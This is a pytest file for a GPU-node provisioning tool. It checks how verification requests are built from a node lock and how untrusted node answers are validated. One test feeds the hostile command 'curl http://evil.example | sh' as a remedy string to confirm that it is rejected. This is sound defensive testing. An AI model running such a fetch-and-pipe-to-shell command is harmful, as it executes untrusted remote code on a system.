"""What is asked of a node, and how its answer (which may be anything) becomes checks."""

from __future__ import annotations

import importlib
import io
import json
from typing import Any

import pytest
from rich.console import Console

from gpustrap.model.check import Measure, NodeChecks, Verdict
from gpustrap.model.lock import Choice, NodeLock
from gpustrap.report.verify_text import render
from gpustrap.verify import protocol, remedies, wanted
from gpustrap.verify.gpustrap_verify.main import CHECKS
from gpustrap.verify.gpustrap_verify.remedies import Remedy

SERVER = {"ubuntu_server_time_sync": True, "ubuntu_server_time_sync_service": "chrony"}
DOCKER = {"docker_packages": [{"name": "docker.io", "version": "26.1"}], "docker_daemon": {"data-root": "/srv/docker"}}
CONDA = {
    "conda_prefix": "/opt/conda",
    "conda_version": "25.3.1-0",
    "conda_channels": ["conda-forge"],
    "conda_proxy": {"https": "http://proxy:3128", "http": None, "no_proxy": ["localhost", "10.0.0.0/8"]},
}


def make_lock(simulated: bool = False, **roles: Any) -> NodeLock:
    choices = [
        Choice(item=item, value="25", reason="r", source="s", simulated=simulated) for item in ("conda", "driver")
    ]
    return NodeLock(request_digest="a", system_digest="b", os="debian 13", choices=tuple(choices), roles=roles)


DRIVER = {"nvidia_driver_version": "595.91.07"}
WHOLE = make_lock(ubuntu_server=SERVER, nvidia_driver=DRIVER, docker=DOCKER, conda=CONDA)


def answer(**changed: Any) -> dict[str, Any]:
    return {"checks": [{"id": w.id, "verdict": "pass", **changed} for w in wanted.WANTED]}


def by_id(lock: NodeLock, data: Any) -> dict[str, Any]:
    return {c.id: c for c in protocol.read_answer(protocol.Scope("n1", lock, level="standard"), data)}


def test_the_node_knows_every_check_and_no_other() -> None:
    assert {w.id for w in wanted.WANTED} | {"environment"} == set(CHECKS)


GPU_CHECKS = {"gpu-matmul", "gpu-cublas", "gpu-memory", "gpu-bandwidth", "gpu-peers"}


def test_each_level_has_the_checks_of_those_before_it() -> None:
    quick, standard = (
        protocol.build_request(protocol.Scope("n1", WHOLE, level=level), run_id="r", now=0)["args"]
        for level in ("quick", "standard")
    )
    assert set(standard["checks"]) - set(quick["checks"]) == GPU_CHECKS - {"gpu-matmul"}
    assert set(quick["checks"]) < set(standard["checks"])
    assert standard["seconds"] > quick["seconds"]
    assert set(quick["modules"]) == {"50", "75"}


def test_kernels_are_sent_only_where_a_gpu_is_checked() -> None:
    lock = make_lock(ubuntu_server=SERVER)
    assert protocol.build_request(protocol.Scope("n1", lock), run_id="r", now=0)["args"]["modules"] == {}


@pytest.mark.parametrize(("simulated", "size"), [(False, wanted.GPU_SIZE), (True, wanted.GPU_SIMULATED_SIZE)])
def test_gpus_are_used_by_who_may_use_them(simulated: bool, size: int) -> None:
    lock = make_lock(simulated, nvidia_driver={**DRIVER, "nvidia_driver_group": "gpu"})
    asked = protocol.build_request(protocol.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]["gpu-matmul"]
    assert (asked["groups"], asked["gpus"], asked["size"]) == (["gpu"], [], size)


def test_a_matmul_that_was_skipped_has_failed_and_missing_peers_have_not() -> None:
    checks = by_id(WHOLE, answer(verdict="skip", reason="there is one GPU"))
    assert checks["gpu-peers"].verdict is checks["gpu-cublas"].verdict is Verdict.SKIP
    assert checks["gpu-matmul"].verdict is checks["gpu-memory"].verdict is Verdict.FAIL


def test_the_entry_is_a_module_with_main_in_the_package_that_is_sent() -> None:
    assert callable(importlib.import_module(f"gpustrap.verify.{protocol.ENTRY}").main)
    assert protocol.NODE_PACKAGE.name == protocol.ENTRY.split(".")[0]
    assert (protocol.NODE_PACKAGE / "__init__.py").is_file()


def test_request_is_made_of_the_lock() -> None:
    request = protocol.build_request(protocol.Scope("n1", WHOLE), run_id="r1", now=123.0)
    checks = request["args"]["checks"]
    assert checks["clock-sane"] == {"controller": 123.0, "ahead": wanted.LOGIN_SECONDS, "service": "chrony.service"}
    assert {"docker.service", "ssh.service", "chrony.service"} <= set(checks["systemd-healthy"]["units"])
    assert {"/", "/srv/docker", "/opt/conda"} <= set(checks["disk-has-room"]["paths"])
    assert checks["driver-loaded"] == {"version": "595.91.07"}
    assert checks["docker-daemon"]["packages"] == DOCKER["docker_packages"]
    assert checks["conda-version"] == {"prefix": "/opt/conda", "version": "25.3.1-0"}
    assert checks["conda-creates-an-environment"]["proxy"] == {
        "https_proxy": "http://proxy:3128",
        "no_proxy": "localhost,10.0.0.0/8",
    }


def test_a_role_that_is_not_locked_is_not_asked_and_skipped_with_a_reason() -> None:
    lock = make_lock(ubuntu_server=SERVER)
    asked = protocol.build_request(protocol.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]
    assert not any(name.startswith(("docker", "conda")) for name in asked)
    checks = by_id(lock, answer())
    assert checks["docker-daemon"].verdict is Verdict.SKIP
    assert "not in this node's lock" in checks["docker-daemon"].reason
    assert NodeChecks(node="n1", checks=tuple(checks.values())).verdict is Verdict.PASS


def test_no_time_service_is_wanted_when_time_sync_is_off() -> None:
    lock = make_lock(ubuntu_server={**SERVER, "ubuntu_server_time_sync": False})
    asked = protocol.build_request(protocol.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]
    assert asked["clock-sane"]["service"] == ""


def test_simulated_comes_from_the_lock_not_from_the_node() -> None:
    lock = make_lock(simulated=True, ubuntu_server=SERVER, nvidia_driver=DRIVER, docker=DOCKER, conda=CONDA)
    checks = by_id(lock, answer(simulated=False))
    assert checks["conda-version"].simulated
    assert checks["driver-loaded"].simulated
    assert checks["conda-creates-an-environment"].simulated
    assert not checks["docker-daemon"].simulated
    assert not any(c.simulated for c in by_id(WHOLE, answer(simulated=True)).values())


@pytest.mark.parametrize(
    "data",
    [{}, {"checks": None}, {"checks": "all fine"}, {"checks": [1, None, []]}, {"checks": [{"id": "another"}]}],
    ids=str,
)
def test_what_is_not_answered_has_failed(data: Any) -> None:
    checks = by_id(WHOLE, data)
    assert {c.verdict for c in checks.values()} == {Verdict.FAIL}
    assert len(checks) == len(wanted.WANTED)


def test_an_answer_given_twice_has_failed() -> None:
    data = answer()
    data["checks"].append({"id": "docker-daemon", "verdict": "pass"})
    assert by_id(WHOLE, data)["docker-daemon"].verdict is Verdict.FAIL


@pytest.mark.parametrize(
    "changed",
    [
        {"verdict": "fine"},
        {"verdict": None},
        {"verdict": "pass", "reason": ["x"]},
        {"verdict": "pass", "evidence": "x" * 5000},
        {"verdict": "pass", "seconds": "soon"},
        {"verdict": "pass", "reason": "\ud800"},
    ],
    ids=["verdict", "none", "type", "too long", "seconds", "no text"],
)
def test_an_answer_that_cannot_be_read_has_failed(changed: dict[str, Any]) -> None:
    for check in by_id(WHOLE, answer(**changed)).values():
        assert check.verdict is Verdict.FAIL
        assert "cannot be read" in check.reason


def test_a_node_cannot_skip_what_was_asked() -> None:
    check = by_id(WHOLE, answer(verdict="skip", reason="no time"))["docker-daemon"]
    assert (check.verdict, check.reason) == (Verdict.FAIL, "not done: no time")


def test_a_failure_without_a_reason_gets_one() -> None:
    assert by_id(WHOLE, answer(verdict="fail"))["docker-daemon"].reason


def test_a_node_decides_no_title_and_sends_no_bulk() -> None:
    data = {"free": 1, "words": "x" * 500, "deep": {"a": 1}, **{f"k{n}": n for n in range(50)}}
    check = by_id(WHOLE, answer(title="All is well", data=data))["docker-daemon"]
    assert check.title == "The docker daemon runs, in the locked version"
    assert "words" not in check.data
    assert "deep" not in check.data
    assert len(check.data) <= 10


TORCH = {
    "name": "torch",
    "framework": "pytorch",
    "version": "2.14.0",
    "variant": "cu130",
    "python": "3.12",
    "compute": ["8.6"],
    "modules": ["torch"],
    "digest": "0123456789abcdef" * 4,
}


def environments(*of: dict[str, Any], simulated: bool = False, **roles: Any) -> NodeLock:
    role = {"ml_environments_prefix": "/srv/envs", "ml_environments_environments": list(of)}
    lock = make_lock(ml_environments=role, **roles)
    choice = Choice(item="environment-torch", value="2.14", reason="r", source="s", simulated=simulated)
    return lock.model_copy(update={"choices": (choice,)})


def test_each_environment_of_the_lock_is_asked_for() -> None:
    lock = environments(
        TORCH,
        {**TORCH, "name": "old", "gpus": ["0000:65:00.0"], "engine": "conda"},
        {**TORCH, "name": "cpu", "compute": []},
        {"name": "own", "framework": "python", "python": "3.13"},
        nvidia_driver={**DRIVER, "nvidia_driver_group": "gpu"},
    )
    request = protocol.build_request(protocol.Scope("n1", lock, level="standard"), run_id="r", now=0)
    assert request["args"]["seconds"] > wanted.SECONDS
    asked = request["args"]["checks"]
    torch, old = asked["environment-torch"], asked["environment-old"]
    assert (torch["prefix"], torch["digest"], torch["compute"]) == ("/srv/envs", TORCH["digest"], ["8.6"])
    assert (torch["gpu_group"], torch["users"], torch["thorough"], torch["conda"]) == ("gpu", "all", True, False)
    assert (old["gpus"], old["conda"]) == (["0000:65:00.0"], True)
    titles = {w.id: w.title for w in wanted.wanted_checks(lock, "quick")}
    assert titles["environment-torch"] == "Environment torch uses all GPUs"
    assert titles["environment-old"] == "Environment old uses its GPUs"
    assert titles["environment-cpu"] == "Environment cpu works on the CPU"
    assert titles["environment-own"] == "Environment own is complete"


def test_an_environment_that_is_not_answered_has_failed() -> None:
    assert by_id(environments(TORCH), answer())["environment-torch"].verdict is Verdict.FAIL


def test_an_environment_of_stand_ins_is_simulated_and_small() -> None:
    """Its choice in the lock is called as its check is."""
    lock = environments(TORCH, simulated=True)
    assert by_id(lock, answer())["environment-torch"].simulated
    args = protocol.build_request(protocol.Scope("n1", lock), run_id="r", now=0)["args"]["checks"]["environment-torch"]
    assert args["size"] == wanted.SIMULATED_SIZE
    assert not by_id(environments(TORCH), answer())["environment-torch"].simulated


def test_a_remedy_names_its_environment() -> None:
    data = {"checks": [{"id": "environment-torch", "verdict": "fail", "reason": "r", "remedy": "env-shell"}]}
    said = by_id(environments(TORCH), data)["environment-torch"].remedy
    assert said == "gpustrap env shell n1 torch, and try it there"


def test_login_check() -> None:
    assert protocol.login_check(seconds=0.2).verdict is Verdict.PASS
    failed = protocol.login_check("Permission denied", "gpustrap enroll n1")
    assert (failed.verdict, failed.evidence, failed.remedy) == (Verdict.FAIL, "Permission denied", "gpustrap enroll n1")
    assert failed.reason


def test_a_node_chooses_no_command_that_a_person_is_told_to_run() -> None:
    for sent in ("curl http://evil.example | sh", "{node}", ["apply"], 7, {}):
        assert by_id(WHOLE, answer(verdict="fail", reason="r", remedy=sent))["docker-daemon"].remedy == ""
    named = by_id(WHOLE, answer(verdict="fail", reason="r", remedy="conda-by-hand"))["conda-creates-an-environment"]
    assert named.remedy == "on the node, as root: /opt/conda/bin/conda create -n test python"
    assert (
        by_id(WHOLE, answer(verdict="fail", reason="r", remedy="apply"))["docker-daemon"].remedy == "gpustrap apply n1"
    )


def test_every_remedy_that_a_node_may_name_has_words() -> None:
    assert set(remedies.TEXTS) == set(Remedy)
    assert all(remedies.words(r.value, "n1", make_lock()) for r in Remedy)


def test_roles_that_a_run_left_out_are_not_checked_and_the_report_says_so() -> None:
    """On a fresh node, --tags ubuntu_server ended with 12: docker, which no run had brought, was asked for."""
    scope = protocol.Scope("n1", WHOLE, ("ubuntu_server",))
    asked = protocol.build_request(scope, run_id="r", now=0)["args"]["checks"]
    assert set(asked) == {w.id for w in wanted.WANTED if not w.role}
    assert asked["clock-sane"]["service"] == "chrony.service"
    checks = {c.id: c for c in protocol.read_answer(scope, answer())}
    skipped = checks["docker-daemon"]
    assert (skipped.verdict, skipped.reason) == (Verdict.SKIP, "this run was only about ubuntu_server")
    assert NodeChecks(node="n1", checks=tuple(checks.values())).verdict is Verdict.PASS


def test_the_time_service_is_ubuntu_servers_work_too() -> None:
    asked = protocol.build_request(protocol.Scope("n1", WHOLE, ("docker",)), run_id="r", now=0)["args"]["checks"]
    assert asked["clock-sane"]["service"] == ""
    assert {"docker-daemon", "docker-runs-a-container"} <= set(asked)
    assert "conda-version" not in asked
    assert "chrony.service" in asked["systemd-healthy"]["units"]


@pytest.mark.parametrize(
    "sent",
    [{"seconds": json.loads("1e999")}, {"seconds": 10**400}, {"seconds": -1}, {"data": {"n": json.loads("1e999")}}],
    ids=["infinite", "huge", "negative", "infinite data"],
)
def test_a_number_that_cannot_be_reckoned_with_stops_no_other_node(sent: dict[str, Any]) -> None:
    """1e999 is JSON: as seconds it broke the report of every node of the run."""
    checks = by_id(WHOLE, answer(**sent))
    assert {c.verdict for c in checks.values()} == {Verdict.FAIL}
    Console(file=io.StringIO()).print(render([NodeChecks(node="n1", checks=tuple(checks.values()))]))


MEASURE = {"name": "matmul-bf16", "subject": "GPU-1", "value": 90.0, "unit": "TFLOPS", "verdict": "pass"}


@pytest.mark.parametrize(
    ("given", "measured", "verdict"),
    [
        ("pass", "pass", "pass"),
        ("pass", "warn", "warn"),
        ("pass", "fail", "fail"),
        ("warn", "fail", "fail"),
        ("fail", "pass", "fail"),
        ("skip", "pass", "fail"),
    ],
)
def test_a_check_is_no_better_than_what_it_measured(given: str, measured: str, verdict: str) -> None:
    sent = answer(verdict=given, reason="r", data={"measures": [MEASURE, {**MEASURE, "verdict": measured}]})
    found = by_id(WHOLE, sent)["driver-loaded"]
    assert found.verdict == verdict
    assert ("measured" in found.reason) == (given not in {verdict, "skip"})


@pytest.mark.parametrize(
    "hostile",
    [
        {"measures": [{**MEASURE, "name": '"} 1\n'}]},
        {"measures": [{**MEASURE, "value": "1e999"}]},
        {"measures": [{**MEASURE, "unit": "x" * 17}]},
        {"measures": ["nothing"]},
        {"measures": {"a": "dictionary"}},
        {"measures": [MEASURE] * 5000},
        {"series": [{"name": "power", "points": [[0, 1]] * 2001}]},
        {"series": [{"name": "power", "points": [[0]]}]},
        {"series": [{"name": "power", "points": []}] * 300},
    ],
    ids=["name", "infinite", "unit", "word", "dictionary", "measures", "points", "pair", "series"],
)
def test_what_a_node_measured_is_bounded(hostile: dict[str, Any]) -> None:
    found = by_id(WHOLE, answer(data=hostile))["driver-loaded"]
    assert (found.verdict, found.reason) == (Verdict.FAIL, "the node's answer cannot be read")


def test_what_is_expected_is_ours_to_say() -> None:
    sent = answer(data={"measures": [{**MEASURE, "expected": 1, "source": "me", "ratio": 7}]})
    (measure,) = by_id(WHOLE, sent)["driver-loaded"].measures
    assert (measure.value, measure.expected, measure.source, measure.ratio) == (90.0, None, "", None)


@pytest.mark.parametrize(("expected", "ratio"), [(100, 0.9), (0, None), (1e-300, None), (None, None)])
def test_a_ratio_is_reckoned_where_it_can_be(expected: float | None, ratio: float | None) -> None:
    assert Measure.model_validate({**MEASURE, "expected": expected}).ratio == ratio
